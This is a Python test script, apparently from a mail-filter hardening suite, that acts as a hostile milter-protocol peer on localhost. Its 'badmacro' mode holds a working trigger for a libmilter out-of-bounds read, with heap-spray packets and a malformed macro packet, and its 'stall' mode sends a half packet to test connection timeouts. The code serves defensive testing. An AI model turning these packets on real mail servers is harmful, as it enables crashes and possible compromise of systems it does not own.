#!/usr/bin/env python3
"""milter_peer.py MODE PORT [options] - a hostile or plain milter-protocol
peer for the hardening tests (standard library only; framing as in
milter_optneg.py: a 4-byte length, a command byte, its data).

  probe PORT [--source ADDR]
      connect (from ADDR when given), offer the option negotiation and
      print "answered" when the milter replies, "closed" when the
      connection is closed before any reply (exit 0 either way).
  badmacro PORT [--sessions N]
      N sessions (default 20) that each negotiate, send a macro packet for
      the connect stage whose last name has no value (the libmilter defect
      of README "Security") and a connect, then read what comes back.
      Prints how many sessions got a reply to the connect and how many
      were cut; exit 0.
  stall PORT [--wait SECS]
      negotiate, then send the first half of a packet and nothing more;
      print the seconds until the milter closed the connection, or
      "open" when it was still open after SECS (default 30)."""
import argparse
import socket
import struct
import sys
import time

from milter_optneg import recv_exact  # next to this file


def packet(cmd, data=b""):
    body = cmd + data
    return struct.pack("!I", len(body)) + body


def read_packet(s):
    (length,) = struct.unpack("!I", recv_exact(s, 4))
    return recv_exact(s, length)


def connect(port, source=None, timeout=10):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    if source:
        s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    return s


def negotiate(s):
    s.sendall(packet(b"O", struct.pack("!III", 6, 0x1FF, 0x1FFFFF)))
    reply = read_packet(s)
    if reply[:1] != b"O":
        raise ValueError("not an option negotiation reply: %r" % reply[:20])


def probe(args):
    try:
        s = connect(args.port, args.source)
    except OSError as e:
        print("refused: %s" % e)
        return
    try:
        negotiate(s)
        s.sendall(packet(b"Q"))
        print("answered")
    except (EOFError, ConnectionResetError, BrokenPipeError):
        print("closed")
    finally:
        s.close()


def badmacro(args):
    replied = cut = 0
    for i in range(args.sessions):
        try:
            s = connect(args.port, timeout=5)
        except OSError:
            cut += 1
            time.sleep(0.2)
            continue
        try:
            negotiate(s)
            # Well-formed macro packets for other stages, each twice, whose
            # data (56 bytes, 'A's from offset 5) is what the allocator hands
            # out next for an array of 6 pointers once the second packet of
            # a stage freed the first. Then the connect stage's macros: two
            # pairs and one name without a value, whose array is such a
            # 6-pointer one: smfi_getsymval() looks past its end, at 'A's.
            for stage in (b"H", b"M", b"R", b"T", b"N", b"E"):
                spray = stage + b"{x}\0" + b"A" * 50 + b"\0"
                s.sendall(packet(b"D", spray) + packet(b"D", spray))
            names = [b"j", b"mx.example", b"{daemon_name}", b"smtpd", b"x"]
            s.sendall(packet(b"D", b"C" + b"".join(n + b"\0" for n in names)))
            # connect: hostname, family '4', port, address
            s.sendall(packet(b"C", b"client.example\0" + b"4" + struct.pack("!H", 25) + b"192.0.2.1\0"))
            read_packet(s)
            replied += 1
            s.sendall(packet(b"Q"))
        except (EOFError, OSError, ValueError):
            cut += 1
        finally:
            s.close()
    print("replied=%d cut=%d" % (replied, cut))


def stall(args):
    s = connect(args.port, timeout=args.wait + 5)
    negotiate(s)
    # a MAIL FROM packet announced as 64 bytes, of which 10 are sent
    s.sendall(struct.pack("!I", 64) + b"M<ann@exa")
    start = time.monotonic()
    s.settimeout(args.wait)
    try:
        data = s.recv(1)
        print("%.1f" % (time.monotonic() - start) if not data else "data")
    except socket.timeout:
        print("open")
    except (ConnectionResetError, OSError):
        print("%.1f" % (time.monotonic() - start))
    finally:
        s.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["probe", "badmacro", "stall"])
    ap.add_argument("port", type=int)
    ap.add_argument("--source")
    ap.add_argument("--sessions", type=int, default=20)
    ap.add_argument("--wait", type=float, default=30)
    args = ap.parse_args()
    {"probe": probe, "badmacro": badmacro, "stall": stall}[args.mode](args)


if __name__ == "__main__":
    try:
        main()
    except (OSError, EOFError, ValueError) as e:
        sys.exit("milter_peer: %s" % e)
